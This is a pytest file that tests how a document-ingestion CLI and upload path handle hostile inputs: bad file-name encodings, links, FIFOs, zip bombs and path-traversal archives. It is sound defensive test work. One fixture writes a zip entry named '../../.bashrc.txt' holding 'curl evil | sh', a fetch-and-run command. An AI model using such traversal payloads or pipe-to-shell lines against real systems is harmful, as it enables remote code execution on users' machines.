"""Probes: bad inputs and hostile names, as an attacker or an unlucky user hands them to `lmspace ingest` and to the
dashboard's upload path. Whatever the input, one bad file fails alone with its reason, the others are stored, and
nobody sees a traceback.
"""

from __future__ import annotations

import dataclasses
import json
import os
import zipfile
from pathlib import Path

import pytest
from typer.testing import CliRunner, Result

from lmspace_core.cli import app
from lmspace_core.domain import IngestReport, Outcome
from lmspace_core.errors import IngestError, LMSpaceError
from lmspace_core.ingest.inputs import items_from_path
from tests.conftest import write_config

GOOD = "Parking permits are issued by the facilities team on request.\n"
MIB = 1024 * 1024


@pytest.fixture
def config_path(tmp_path: Path) -> Path:
    return write_config(tmp_path, "ingest:\n  max_file_mb: 1\n")


@pytest.fixture
def ingest(config_path: Path):
    """Run `lmspace ingest probes PATH... --json`; return the exit code and the report as {source: (outcome,
    reason)}."""
    runner = CliRunner()

    def run(*paths: Path) -> tuple[int, dict[str, tuple[str, str]]]:
        result: Result = runner.invoke(app, ["--config", str(config_path), "ingest", "probes",
                                             *map(str, paths), "--json"])
        assert "Traceback" not in result.output
        assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
        report = json.loads(result.stdout)
        return result.exit_code, {f["source"]: (f["outcome"], f["reason"]) for f in report["files"]}

    CliRunner().invoke(app, ["--config", str(config_path), "spaces", "create", "probes"])
    return run


def stored(config_path: Path) -> list[str]:
    result = CliRunner().invoke(app, ["--config", str(config_path), "docs", "list", "probes", "--json"])
    return sorted(doc["source"] for doc in json.loads(result.stdout))


def folder_with(tmp_path: Path, **files: bytes | str) -> Path:
    folder = tmp_path / "folder"
    folder.mkdir(exist_ok=True)
    (folder / "good.txt").write_text(GOOD)
    for name, content in files.items():
        (folder / name).write_bytes(content.encode() if isinstance(content, str) else content)
    return folder


# -- hostile names ------------------------------------------------------------------------------------------------


def test_a_folder_file_named_in_latin1_fails_alone_and_the_others_are_stored(tmp_path, ingest, config_path):
    folder = folder_with(tmp_path)
    with open(os.path.join(os.fsencode(folder), b"r\xe9sum\xe9.txt"), "wb") as file:
        file.write(b"A resume with a Latin-1 name.")
    code, report = ingest(folder)
    assert code == IngestError.exit_code
    assert report["folder/good.txt"][0] == "added"
    outcome, reason = report["folder/r\\xe9sum\\xe9.txt"]
    assert outcome == "failed" and "not valid UTF-8" in reason
    assert stored(config_path) == ["folder/good.txt"]


def test_a_single_file_named_in_latin1_fails_alone(tmp_path, ingest, config_path):
    good = tmp_path / "good.txt"
    good.write_text(GOOD)
    bad = Path(os.fsdecode(os.path.join(os.fsencode(tmp_path), b"caf\xe9.txt")))
    bad.write_text("Menu of the day.")
    code, report = ingest(good, bad)
    assert code == IngestError.exit_code
    assert report == {"good.txt": ("added", ""),
                      "caf\\xe9.txt": ("failed", "its name is not valid UTF-8; rename it (e.g. with `convmv`) and "
                                                  "ingest it again")}
    assert stored(config_path) == ["good.txt"]


def test_a_zip_entry_falsely_flagged_utf8_fails_alone(tmp_path, ingest, config_path):
    archive = tmp_path / "names.zip"
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("café.txt", "bonjour")
        zipped.writestr("good.txt", GOOD)
    archive.write_bytes(archive.read_bytes().replace("café".encode(), b"caf\xe9\xe9"))
    code, report = ingest(archive)
    assert code == IngestError.exit_code
    assert report["names/good.txt"][0] == "added"
    assert report["names/caf\\xe9\\xe9.txt"][0] == "failed"
    assert stored(config_path) == ["names/good.txt"]


def test_a_hard_link_to_a_file_outside_the_folder_is_skipped_and_reported(tmp_path, ingest, config_path):
    outside = tmp_path / "hostname.txt"
    outside.write_text("db-primary-07.internal\n")
    folder = folder_with(tmp_path)
    os.link(outside, folder / "hostname.txt")
    code, report = ingest(folder)
    assert code == 0
    outcome, reason = report["folder/hostname.txt"]
    assert outcome == "skipped" and "hard link" in reason
    assert stored(config_path) == ["folder/good.txt"]


def test_symbolic_links_and_fifos_are_reported_as_skipped_not_silently_dropped(tmp_path, ingest):
    secret = tmp_path / "secret.txt"
    secret.write_text("the root password")
    folder = folder_with(tmp_path)
    (folder / "secret.txt").symlink_to(secret)
    os.mkfifo(folder / "pipe.md")
    code, report = ingest(folder)
    assert code == 0
    assert report["folder/secret.txt"][0] == "skipped" and "symbolic link" in report["folder/secret.txt"][1]
    assert report["folder/pipe.md"][0] == "skipped" and "named pipe" in report["folder/pipe.md"][1]


def test_a_zip_with_parent_paths_is_refused_whole(tmp_path, ingest, config_path):
    archive = tmp_path / "evil.zip"
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("good.txt", GOOD)
        zipped.writestr("../../.bashrc.txt", "curl evil | sh")
    code, report = ingest(archive)
    assert code == IngestError.exit_code
    assert report["evil.zip"][0] == "failed" and "'..'" in report["evil.zip"][1]
    assert stored(config_path) == []


# -- archives that lie --------------------------------------------------------------------------------------------


def test_a_bomb_spread_over_many_small_entries_is_refused(tmp_path, ingest, config_path):
    archive = tmp_path / "spread.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zipped:
        for number in range(40):
            zipped.writestr(f"part{number}.txt", b"\0" * MIB)  # each at the per-entry floor, 40 MiB in all
    code, report = ingest(archive)
    assert code == IngestError.exit_code
    assert "zip bomb" in report["spread.zip"][1]
    assert stored(config_path) == []


def test_an_empty_archive_says_it_has_no_files(tmp_path, ingest):
    zipfile.ZipFile(tmp_path / "empty.zip", "w").close()
    code, report = ingest(tmp_path / "empty.zip")
    assert code == IngestError.exit_code
    assert report == {"empty.zip": ("failed", "empty.zip has no files in it (the archive is empty)")}


def test_an_archive_with_nothing_supported_says_so(tmp_path, ingest):
    with zipfile.ZipFile(tmp_path / "pictures.zip", "w") as zipped:
        zipped.writestr("cat.png", b"\x89PNG")
    code, report = ingest(tmp_path / "pictures.zip")
    assert code == IngestError.exit_code
    assert report["pictures"][0] == "failed" and "no files of a supported type" in report["pictures"][1]


# -- bad content (what already held) ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "reason"),
    [
        ("broken.pdf", b"%PDF-1.4\n1 0 obj << /Type /Catalog >>\ntruncated", "not a readable PDF"),
        ("program.txt", bytes(range(256)) * 8, "looks binary"),
        ("huge.txt", b"word " * (MIB // 4), "over the 1 MB limit per file"),
        ("old.docx", b"\xd0\xcf\x11\xe0 an OLE .doc renamed", "not a .docx file"),
        ("empty.md", b"   \n", "is empty"),
    ],
)
def test_a_bad_file_in_a_folder_fails_alone_with_its_reason(tmp_path, ingest, config_path, name, content, reason):
    code, report = ingest(folder_with(tmp_path, **{name: content}))
    assert code == IngestError.exit_code
    outcome, why = report[f"folder/{name}"]
    assert outcome == "failed" and reason in why
    assert stored(config_path) == ["folder/good.txt"]


# -- dashboard uploads ----------------------------------------------------------------------------------------


def finished_report(workspace, job) -> IngestReport:
    done = workspace.jobs.wait(workspace.enterprise_id, job.id, timeout=120)
    return IngestReport.from_json_data(done.result)


def test_two_uploads_with_the_same_name_are_both_kept(workspace):
    space = workspace.create_space("uploads")
    first, second = b"Team A meets on Mondays.\n", b"Team B meets on Thursdays.\n"
    job = workspace.start_ingest(space, uploads=[("a/notes.txt", first), ("b/notes.txt", second)])
    report = finished_report(workspace, job)
    assert [(f.source, f.outcome) for f in report.files] == [("notes.txt", Outcome.ADDED),
                                                             ("notes (2).txt", Outcome.ADDED)]
    texts = {doc.source: workspace.chunks(space, doc)[0].text for doc in workspace.documents(space)}
    assert texts == {"notes.txt": first.decode().strip(), "notes (2).txt": second.decode().strip()}


@pytest.mark.parametrize("name", ["..", "", "/", ".", "a/..", "x\0.txt", "n" * 300 + ".txt"])
def test_an_unusable_upload_name_is_refused_with_a_message_and_nothing_staged(workspace, name):
    space = workspace.create_space("uploads")
    with pytest.raises(LMSpaceError, match="cannot name a document; rename it"):
        workspace.start_ingest(space, uploads=[("fine.txt", b"fine"), (name, b"data")])
    assert not (workspace.settings.data_dir / "uploads").exists()
    assert workspace.job_store.list_jobs(workspace.enterprise_id) == []


@pytest.mark.parametrize("name", ["..", "", "/"])
def test_research_on_an_upload_with_an_unusable_name_is_refused_with_a_message(workspace, name):
    from lmspace_core.agents.research.researcher import plan_research, start_research

    with pytest.raises(IngestError, match="cannot name a document"):
        plan_research(workspace, "Find print statements", archive=(name, _one_file_zip()))
    plan = plan_research(workspace, "Find print statements", archive=("ok.zip", _one_file_zip()))
    with pytest.raises(IngestError, match="cannot name a document"):
        start_research(workspace, plan, archive=(name, _one_file_zip()))


def test_zip_limit_messages_name_the_settings_a_user_can_change(tmp_path, workspace):
    archive = tmp_path / "many.zip"
    with zipfile.ZipFile(archive, "w") as zipped:
        for index in range(3):
            zipped.writestr(f"f{index}.txt", "text")
    limits = dataclasses.replace(workspace.ingest_limits(), max_zip_entries=2)
    [failed] = items_from_path(archive, limits)
    assert "ingest.max_zip_entries" in failed.error


def _one_file_zip() -> bytes:
    import io

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zipped:
        zipped.writestr("app.py", "print('hi')\n")
    return buffer.getvalue()
